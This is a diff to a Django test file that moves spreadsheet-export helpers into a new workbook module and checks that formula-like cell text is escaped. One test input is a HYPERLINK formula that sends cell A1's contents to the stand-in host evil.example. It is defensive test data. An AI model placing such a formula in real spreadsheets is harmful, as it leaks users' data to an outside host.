@@ -13,7 +13,7 @@ from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from proposals import exports, services
+from proposals import export_items, exports, services, workbook
 from proposals.models import ExportJob, ExportStatus
 from replies import services as reply_services
 from replies.models import FollowUp
@@ -92,24 +92,24 @@ class TestSafeCell:
         ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A9)", "\t=1"],
     )
     def test_formula_text_gets_a_leading_quote(self, text):
-        assert exports.safe_cell(text) == "'" + text
+        assert workbook.safe_cell(text) == "'" + text
 
     def test_plain_text_numbers_and_dates_stay_as_they_are(self):
-        assert exports.safe_cell("关于=的建议") == "关于=的建议"
-        assert exports.safe_cell(-3) == -3
-        assert exports.safe_cell(2.5) == 2.5
-        assert exports.safe_cell(None) is None
-        assert exports.safe_cell(date(2026, 3, 1)) == date(2026, 3, 1)
+        assert workbook.safe_cell("关于=的建议") == "关于=的建议"
+        assert workbook.safe_cell(-3) == -3
+        assert workbook.safe_cell(2.5) == 2.5
+        assert workbook.safe_cell(None) is None
+        assert workbook.safe_cell(date(2026, 3, 1)) == date(2026, 3, 1)
 
     def test_aware_datetimes_are_local_and_naive(self):
         moment = timezone.make_aware(datetime(2026, 3, 1, 2, 30), timezone.get_fixed_timezone(0))
-        assert exports.safe_cell(moment) == datetime(2026, 3, 1, 10, 30)  # Asia/Shanghai
+        assert workbook.safe_cell(moment) == datetime(2026, 3, 1, 10, 30)  # Asia/Shanghai
 
     def test_control_characters_cannot_hide_a_formula(self):
-        assert exports.safe_cell("\x01=1+1") == "'=1+1"
+        assert workbook.safe_cell("\x01=1+1") == "'=1+1"
 
     def test_write_rows_header_is_bold_and_frozen_and_text_is_text(self):
-        content = exports.write_rows(
+        content = workbook.write_rows(
             [["=1+1", date(2026, 1, 2), 7], ["@x", None, -1]], ["标题", "日期", "天数"]
         )
         sheet = sheet_of(content)
@@ -141,7 +141,7 @@ class TestItemExport:
         mine, registered, _ = items
         response = login(member).get(self.url)
         assert response.status_code == 200
-        assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
+        assert response["Content-Type"] == workbook.XLSX_CONTENT_TYPE
         disposition = response["Content-Disposition"]
         assert disposition.startswith("attachment; filename*=utf-8''")
         assert quote("建议提案") in disposition and disposition.endswith(".xlsx")
@@ -302,12 +302,12 @@ class TestBackgroundExport:
         job = ExportJob.objects.get()
         assert response.status_code == 302
         assert response["Location"] == f"/items/exports/{job.pk}/"
-        columns = ",".join(exports.DEFAULT_ITEM_COLUMNS)
+        columns = ",".join(export_items.DEFAULT_ITEM_COLUMNS)
         assert (job.owner, job.kind) == (member, "items")
         assert job.query == "kind=suggestion&export_columns=" + columns.replace(",", "%2C")
         assert exports.split_job_query("items", job.query) == (
             "kind=suggestion",
-            exports.DEFAULT_ITEM_COLUMNS,
+            export_items.DEFAULT_ITEM_COLUMNS,
         )
         assert (job.status, job.total, job.done) == (ExportStatus.PENDING, 5, 0)
         assert len(callbacks) == 1
